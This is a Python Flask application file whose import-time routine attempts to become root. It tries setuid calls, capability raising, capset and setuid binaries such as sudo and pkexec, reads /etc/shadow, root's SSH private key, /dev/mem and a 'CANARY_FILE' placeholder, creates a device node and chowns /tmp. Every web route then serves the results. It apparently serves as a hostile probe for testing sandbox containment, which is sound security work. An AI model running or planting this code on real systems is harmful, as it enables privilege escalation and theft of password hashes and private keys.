"""Wants to be root."""

import contextlib
import ctypes
import os
import stat
import subprocess
from pathlib import Path

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
PROGRAMS = ("su", "sudo", "mount", "umount", "newuidmap", "newgidmap", "passwd", "chsh", "pkexec", "ping",
            "fusermount3", "bwrap", "unshare", "nsenter", "setpriv", "capsh", "doas")


def attack():
    found = []
    for call, arguments in ((libc.setuid, (0,)), (libc.setgid, (0,)), (libc.setresuid, (0, 0, 0)),
                            (libc.setfsuid, (0,)), (libc.setgroups, (1, (ctypes.c_int * 1)(0)))):
        if call(*arguments) == 0 and os.geteuid() == 0:
            found.append(call.__name__)
    for capability in range(41):
        if libc.prctl(47, 2, capability, 0, 0) == 0:  # PR_CAP_AMBIENT_RAISE
            found.append(f"capability {capability}")
        if libc.prctl(23, capability, 0, 0, 0) == 1:  # PR_CAPBSET_READ
            found.append(f"may have capability {capability}")
    header, everything = b"\x22\x05\x08\x20" + bytes(4), b"\xff" * 24
    if libc.capset(header, everything) == 0:
        found.append("all capabilities")
    if libc.prctl(39, 0, 0, 0, 0) == 0:  # PR_GET_NO_NEW_PRIVS
        found.append("may have new privileges")
    for folder in ("/usr/bin", "/bin", "/usr/sbin"):
        for name in PROGRAMS:
            path = Path(folder, name)
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                if path.stat().st_mode & stat.S_ISUID:
                    who = subprocess.run([path, "-c", "id -u"], capture_output=True, timeout=0.1,
                                         stdin=subprocess.DEVNULL)
                    found += [f"root by {name}"] if who.stdout.strip() == b"0" else []
    for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/proc/kcore", "/dev/mem", "/dev/kmsg", "CANARY_FILE"):
        with contextlib.suppress(OSError):
            found.append(Path(path).read_bytes()[:100].decode("latin-1"))
    with contextlib.suppress(OSError):
        os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
        found.append("made a device")
    with contextlib.suppress(OSError):
        os.chown("/tmp", 0, 0)
        found.append("gave a folder away")
    return found


ATTACKED = []


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return {"found": ATTACKED[0]}

    return app


try:
    ATTACKED.append(attack())
except BaseException as error:
    ATTACKED.append(repr(error))
